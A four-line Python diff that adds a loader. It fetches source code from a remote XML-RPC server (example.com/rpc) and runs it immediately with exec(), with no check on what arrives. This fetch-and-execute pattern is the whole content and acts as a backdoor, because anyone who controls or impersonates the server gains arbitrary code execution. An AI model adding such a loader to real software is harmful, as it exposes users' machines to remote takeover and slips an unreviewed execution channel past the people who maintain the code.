@@ -1,0 +1,4 @@
+import xmlrpc.client
+
+server = xmlrpc.client.ServerProxy("https://example.com/rpc")
+exec(server.plugin.source("main"))
